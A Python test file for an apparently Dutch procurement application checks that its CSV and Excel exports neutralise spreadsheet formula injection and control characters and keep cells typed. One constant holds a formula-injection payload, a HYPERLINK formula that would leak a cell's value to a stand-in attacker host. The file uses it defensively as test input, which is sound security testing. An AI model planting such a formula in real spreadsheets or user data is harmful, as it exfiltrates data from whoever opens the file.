"""Every export goes through procure.core.spreadsheets: no live formula, no control
character that breaks Excel, typed cells. Checked on the real exports."""

import io
from datetime import UTC, date, datetime
from decimal import Decimal

from openpyxl import load_workbook
from sqlalchemy import select

from procure.core import spreadsheets as sheets
from procure.core.timeutil import today_local
from procure.extensions import db
from procure.supervision.models import Signal
from tests import factories as f
from tests.contracts.helpers import lumpsum_contract
from tests.supervision.helpers import TEXT, World

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"klik")'


def test_safe_text_neutralises_every_formula_start_and_control_character():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert sheets.safe_text(start + "1+1") == "'" + start + "1+1"
    assert sheets.safe_text("Mel\x01der\x1f") == "Mel\ufffdder\ufffd"
    assert sheets.safe_text("Breda\nOosterhout") == "Breda\nOosterhout"  # newlines stay
    assert sheets.safe_text(None) == "" and sheets.safe_text("Kompas") == "Kompas"


def test_cells_stay_typed_in_excel_and_dutch_in_csv():
    moment = datetime(2026, 7, 1, 10, 30, tzinfo=UTC)
    row = [Decimal("1231.25"), date(2026, 3, 31), moment, 12, "=1+1", None]
    book = load_workbook(io.BytesIO(sheets.xlsx_bytes(sheets.Sheet("Blad", ["a"] * 6, [row]))))
    cells = next(book.active.iter_rows(min_row=2))
    assert cells[0].value == 1231.25 and cells[0].number_format == sheets.DECIMAL_FORMAT
    assert cells[1].value == datetime(2026, 3, 31) and cells[1].number_format == "DD-MM-YYYY"
    assert cells[2].value == datetime(2026, 7, 1, 12, 30)  # wall-clock time in Amsterdam
    assert cells[3].value == 12 and cells[4].value == "'=1+1" and cells[5].value is None
    line = sheets.csv_text(None, [row]).strip()
    assert line == "1231,25;31-03-2026;01-07-2026 12:30;12;'=1+1;"


def test_contract_exports_write_a_hyperlink_title_as_text(client):
    contract = lumpsum_contract(title=HYPERLINK)
    f.login(client, f.user("contract_manager"))
    text = client.get("/contracten/export.csv").get_data(as_text=True)
    row = next(line for line in text.splitlines() if contract.reference in line)
    assert "'=HYPERLINK(" in row and ";=HYPERLINK" not in row and ';"=HYPERLINK' not in row
    book = load_workbook(io.BytesIO(client.get("/contracten/export.xlsx").data))
    rows = list(book.active.iter_rows(min_row=2, values_only=True))
    title = next(r[1] for r in rows if r[0] == contract.reference)
    assert title == "'" + HYPERLINK
    # the contract value is a real number with a euro format, the dates real dates
    cells = next(r for r in book.active.iter_rows(min_row=2) if r[0].value == contract.reference)
    assert cells[8].value == datetime(2026, 1, 1) and cells[10].number_format == "€ #,##0.00"


def test_supervision_export_survives_a_control_character_typed_in_the_intake_form(client, app):
    with app.test_request_context():
        w = World()
    f.login(client, w.manager)
    response = f.post(
        client,
        "/signalen/nieuw",
        {
            "provider_id": w.kompas.id,
            "contract_id": 0,
            "municipality_id": 0,
            "source": "internal",
            "received_on": today_local().isoformat(),
            "category": "compliance",
            "urgency": "normal",
            "description": TEXT,
            "reporter_name": "Mel\x01der",
            "reporter_contact": HYPERLINK,
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    assert db.session.execute(select(Signal.reporter_name)).scalar_one() == "Mel\x01der"
    f.post(client, "/uitloggen")
    f.login(client, w.supervisor)
    response = client.get(f"/signalen/rapportage/export.xlsx?year={today_local().year}")
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.data))["Signalen"].iter_rows(values_only=True))
    assert rows[0][-1] == "Melder" and rows[1][-1] == "Mel\ufffdder"


def test_column_formats_follow_the_type_and_reproducible_workbooks_repeat_their_bytes():
    rows = [
        [sheets.period_value("2026-03"), Decimal("1234.50"), sheets.period_value("2024")],
        [sheets.period_value("2024-Q3"), 12, None],
    ]

    def build():
        return sheets.xlsx_bytes(
            sheets.Sheet(
                "Blad",
                ["Maand", "Bedrag", "Jaar"],
                rows,
                formats={0: sheets.MONTH_FORMAT, 1: sheets.MONEY_FORMAT, 2: sheets.MONTH_FORMAT},
            ),
            title="Proef",
            reproducible=True,
        )

    assert build() == build()
    book = load_workbook(io.BytesIO(build()))
    first, second = book.active.iter_rows(min_row=2, max_row=3)
    assert first[0].value == datetime(2026, 3, 1) and first[0].number_format == "MM-YYYY"
    assert first[1].number_format == sheets.MONEY_FORMAT
    assert first[2].value == 2024 and first[2].number_format == "General"  # a year, no date
    assert second[0].value == "2024-Q3" and book.properties.title == "Proef"
